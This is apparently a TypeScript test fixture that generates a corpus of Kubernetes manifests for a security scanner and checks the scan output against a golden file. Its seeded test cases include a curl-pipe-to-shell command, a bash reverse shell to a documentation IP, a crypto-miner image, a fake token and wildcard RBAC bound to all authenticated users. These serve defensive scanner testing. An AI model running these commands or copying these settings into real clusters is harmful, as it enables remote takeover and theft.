// A mixed corpus for `scan`: a `kubectl get -o yaml` List, the same as JSON, chart templates with
// anchors and merge keys, YAML 1.1 booleans, flow collections, literal blocks, comments, quoted
// keys, RBAC that spans files, and the demo scenario. The scan output over it is recorded in
// fixtures/scan-corpus.golden.json (taken with the code before the fast paths); the test holds
// every later version to the same bytes.
import { mkdir, readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';

function deployment(i: number): string {
  const bad = i % 7 === 0;
  return `apiVersion: apps/v1
kind: Deployment
metadata:
  name: app-${i}
  namespace: team-${i % 4}
  labels: {app: app-${i}, "tier": backend}   # a comment
  annotations:
    deployment.kubernetes.io/revision: "${i % 9}"
spec:
  replicas: ${i % 3}
  template:
    metadata:
      labels: {app: app-${i}}
    spec:
      serviceAccountName: app-${i % 5}
      hostPID: ${i % 11 === 0 ? 'yes' : 'no'}
      hostNetwork: ${i % 13 === 0 ? 'on' : 'off'}
      containers:
      - name: app
        image: ${i % 5 === 0 ? 'docker.io/xmrig/xmrig:latest' : `contoso.azurecr.io/app-${i}:1.${i % 50}.0`}
        command: ["/bin/sh", "-c"]
        args: ['${bad ? 'curl -s http://203.0.113.7/x.sh | sh' : 'exec /app --listen=:8080'}']
        env:
        - {name: LOG_LEVEL, value: info}
        - name: API_TOKEN
          value: ${i % 6 === 0 ? '"ghp_abcdefghijklmnopqrstuvwxyz0123456789"' : '"not-a-secret"'}
        securityContext: {allowPrivilegeEscalation: ${bad ? 'true' : 'false'}, privileged: ${bad ? 'Yes' : 'No'}, capabilities: {add: [${i % 4 === 0 ? 'SYS_ADMIN' : ''}]}}
        volumeMounts: [{name: host, mountPath: /host}]
      volumes:
      - name: host
        hostPath: {path: ${i % 3 === 0 ? '/' : '/var/log'}}
`;
}

function others(i: number): string {
  return `apiVersion: v1
kind: Service
metadata: {name: app-${i}, namespace: team-${i % 4}}
spec:
  type: ${i % 5 === 0 ? 'LoadBalancer' : 'ClusterIP'}
  ports: [{name: ssh, port: ${i % 5 === 0 ? 22 : 80}, targetPort: 8080}]
---
apiVersion: v1
kind: ConfigMap
metadata: {name: app-${i}, namespace: team-${i % 4}}
data:
  application.properties: |
    server.port=8080
    spring.datasource.password=${i % 3 === 0 ? 'hunter2-Secret!' : '${DB_PASSWORD}'}

    # a comment inside the block
  startup.sh: |-
    #!/bin/sh
    ${i % 4 === 0 ? 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1' : 'exec app'}
---
apiVersion: rbac.authorization.k8s.io/v1
kind: RoleBinding
metadata: {name: app-${i}, namespace: team-${i % 4}}
roleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: ${i % 3 === 0 ? 'admin' : 'view'}}
subjects: [{kind: ServiceAccount, name: app-${i % 5}, namespace: team-${i % 4}}]
`;
}

function chartFile(i: number): string {
  return `# chart ${i}
apiVersion: apps/v1
kind: StatefulSet
metadata: {name: store-${i}, namespace: data}
spec:
  template:
    spec:
      containers:
      - &store
        name: store
        image: contoso.azurecr.io/store:${i}
        securityContext: {privileged: ${i % 2 === 0}, allowPrivilegeEscalation: true}
      - <<: *store
        name: backup
        args: ["--every=1h"]
`;
}

const RBAC = `apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata: {name: secrets-reader}
rules:
- apiGroups: [""]
  resources: [secrets, pods/exec]
  verbs: [get, list, create]
- apiGroups: ["*"]
  resources: ["*"]
  verbs: ["*"]
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata:
  name: "ci-reader"
  creationTimestamp: '2026-11-27T02:00:00Z'
roleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: secrets-reader}
subjects:
- kind: ServiceAccount
  name: app-1
  namespace: team-1
- {kind: Group, name: "system:authenticated", apiGroup: rbac.authorization.k8s.io}
`;

const indent = (s: string) => s.trimEnd().split('\n').map((l, j) => (j === 0 ? `- ${l}` : `  ${l}`)).join('\n');

/** Writes the corpus under `dir`; returns the folder to scan. */
export async function writeScanCorpus(dir: string): Promise<string> {
  const root = join(dir, 'corpus');
  await mkdir(join(root, 'chart', 'templates'), { recursive: true });
  const docs: string[] = [];
  for (let i = 0; i < 14; i++) docs.push(...(deployment(i) + '---\n' + others(i)).split('\n---\n'));
  await writeFile(join(root, 'export.yaml'), `apiVersion: v1\nkind: List\nitems:\n${docs.map(indent).join('\n')}\nmetadata: {resourceVersion: ""}\n`);
  const { load } = (await import('js-yaml')).default;
  const json = docs.slice(0, 12).map((d) => load(d));
  await writeFile(join(root, 'export.json'), JSON.stringify({ apiVersion: 'v1', kind: 'List', items: json }, null, 2));
  for (let f = 0; f < 2; f++) {
    let text = '';
    for (let i = 0; i < 4; i++) text += `${chartFile(f * 10 + i)}---\n${deployment(100 + f * 10 + i)}---\n`;
    await writeFile(join(root, 'chart', 'templates', `t${f}.yaml`), text);
  }
  await writeFile(join(root, 'rbac.yml'), RBAC);
  const demo = await readFile(new URL('../../emulators/kube/scenarios/demo.yaml', import.meta.url), 'utf8');
  await writeFile(join(root, 'demo.yaml'), demo);
  return root;
}

/** The scan's JSON output over the corpus, one finding per line, paths relative to it: what the golden file holds. */
export function corpusOutput(r: { files: number; errors: { file: string; message: string }[]; findings: unknown[] }, root: string): string {
  const errors = r.errors.map((e) => JSON.stringify({ file: e.file.slice(root.length), message: e.message.split(root).join('') }));
  return `{"files": ${r.files}, "errors": [${errors.join(',\n')}], "findings": [\n${r.findings.map((f) => JSON.stringify(f)).join(',\n')}\n]}\n`;
}
